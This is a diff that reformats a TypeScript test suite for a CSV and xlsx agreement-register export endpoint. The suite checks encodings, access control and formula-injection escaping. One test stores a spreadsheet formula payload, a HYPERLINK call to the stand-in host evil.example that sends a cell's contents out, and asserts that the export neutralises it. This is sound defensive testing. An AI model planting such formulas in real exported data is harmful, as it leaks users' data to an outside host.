@@ -20,7 +20,10 @@ describe.each(drivers)("agreement register export on %s", (kind) => {
 
   async function setup() {
     const partner = await createOrganization(app.runtime.db, { kind: "company", name: "髙橋①商事株式会社" });
-    const { desk } = await buildAgreement(app.runtime, { partnerIds: [partner.id], input: { title: "㈱髙橋①商事との連携協定", purpose: "目的", items: [{ title: "項目", field: "health" }] } });
+    const { desk } = await buildAgreement(app.runtime, {
+      partnerIds: [partner.id],
+      input: { title: "㈱髙橋①商事との連携協定", purpose: "目的", items: [{ title: "項目", field: "health" }] },
+    });
     return { desk, partner };
   }
 
@@ -40,7 +43,9 @@ describe.each(drivers)("agreement register export on %s", (kind) => {
 
   it("writes UTF-8 with a BOM, and an xlsx that reads back", async () => {
     const { desk } = await setup();
-    const csv = Buffer.from(await (await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.csv?encoding=utf-8", token: desk.token })).arrayBuffer());
+    const csv = Buffer.from(
+      await (await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.csv?encoding=utf-8", token: desk.token })).arrayBuffer(),
+    );
     expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(csv.toString("utf8")).toContain("㈱髙橋①商事との連携協定");
     const xlsx = await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.xlsx", token: desk.token });
@@ -55,7 +60,9 @@ describe.each(drivers)("agreement register export on %s", (kind) => {
   it("exports only the caller's register and needs a token", async () => {
     await setup();
     const other = await createMember(app.runtime, { role: "desk_admin" });
-    const text = Buffer.from(await (await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.csv", token: other.token })).arrayBuffer()).toString("utf8");
+    const text = Buffer.from(
+      await (await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.csv", token: other.token })).arrayBuffer(),
+    ).toString("utf8");
     expect(text).not.toContain("髙橋");
     expect((await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.csv" })).status).toBe(401);
   });
@@ -64,9 +71,16 @@ describe.each(drivers)("agreement register export on %s", (kind) => {
     const evil = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
     const partner = await createOrganization(app.runtime.db, { kind: "company", name: evil });
     const title = "-1+1 協定";
-    const { desk } = await buildAgreement(app.runtime, { partnerIds: [partner.id], input: { title, purpose: "@SUM(A1:A9)", items: [{ title: "項目", field: "health" }] } });
+    const { desk } = await buildAgreement(app.runtime, {
+      partnerIds: [partner.id],
+      input: { title, purpose: "@SUM(A1:A9)", items: [{ title: "項目", field: "health" }] },
+    });
     for (const encoding of ["utf-8", "shift_jis"]) {
-      const bytes = Buffer.from(await (await app.call(exportRoute.loader, { path: `/api/v1/agreements/export.csv?encoding=${encoding}`, token: desk.token })).arrayBuffer());
+      const bytes = Buffer.from(
+        await (
+          await app.call(exportRoute.loader, { path: `/api/v1/agreements/export.csv?encoding=${encoding}`, token: desk.token })
+        ).arrayBuffer(),
+      );
       const text = encoding === "shift_jis" ? iconv.decode(bytes, "cp932") : bytes.toString("utf8");
       expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"`);
       expect(text).toContain("'-1+1 協定");
@@ -76,7 +90,9 @@ describe.each(drivers)("agreement register export on %s", (kind) => {
       expect(read.rows[0]).toEqual(expect.arrayContaining([evil, title, "@SUM(A1:A9)"]));
     }
     const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.load(await (await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.xlsx", token: desk.token })).arrayBuffer());
+    await workbook.xlsx.load(
+      await (await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.xlsx", token: desk.token })).arrayBuffer(),
+    );
     const sheet = workbook.worksheets[0]!;
     const cells = (sheet.getRow(2).values as unknown[]).slice(1);
     expect(cells).toContain(evil);
